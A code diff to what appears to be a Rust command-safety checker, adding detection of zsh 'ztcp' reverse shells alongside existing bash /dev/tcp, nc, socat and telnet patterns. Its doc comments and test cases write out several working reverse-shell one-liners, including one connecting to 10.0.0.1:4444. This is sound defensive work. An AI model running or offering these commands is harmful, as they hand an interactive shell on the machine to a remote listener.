@@ -9,7 +9,8 @@ declare_check! {
     /// `bash -i >& /dev/tcp/h/p 0>&1` (and `/dev/udp`), `nc -e /bin/sh h p`, `ncat --exec`/
     /// `--sh-exec`, `socat exec:…`/`system:…`, and a pipeline holding both a shell and a network
     /// tool (`cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`, `telnet h 1 | sh | telnet h 2`).
-    /// Other use of `/dev/tcp` (a port probe) is asked about.
+    /// The same through zsh's `ztcp` (`zmodload zsh/net/tcp; ztcp h p; zsh >&$REPLY`). Other
+    /// use of `/dev/tcp` or `ztcp` (a port probe) is asked about.
     ///
     /// **Why it is risky**: it hands an interactive shell on this machine to whoever listens on
     /// the other end.
@@ -50,7 +51,16 @@ impl Check for ReverseShell {
                     t.as_bytes().contains(&b'/')
                         && (t.contains("/dev/tcp/") || t.contains("/dev/udp/"))
                 });
-            if let Some(t) = dev_tcp {
+            // zsh's `ztcp HOST PORT` (module `zsh/net/tcp`) opens a connection and leaves its
+            // descriptor in `$REPLY`; `ztcp -l PORT` listens and `-a FD` accepts (`-c`
+            // closes, `-L` lists).
+            let ztcp = (p == Some("ztcp")
+                && !u
+                    .args()
+                    .next()
+                    .is_some_and(|a| matches!(text(a), "-c" | "-L")))
+            .then_some("ztcp");
+            if let Some(t) = dev_tcp.or(ztcp) {
                 if any_shell {
                     out.push(deny(
                         Some(i),
@@ -155,6 +165,15 @@ mod tests {
                 "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l 2>&5 >&5; done",
                 Some(Decision::Deny),
             ),
+            (
+                "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+                Some(Decision::Deny),
+            ),
+            (
+                "zsh -c 'zmodload zsh/net/tcp; ztcp -l 4444'",
+                Some(Decision::Ask),
+            ),
+            ("zsh -c 'ztcp -c 5'", None),
             ("nc -zv host 443", None),
             ("socat TCP-LISTEN:8080,fork TCP:localhost:80", None),
         ] {
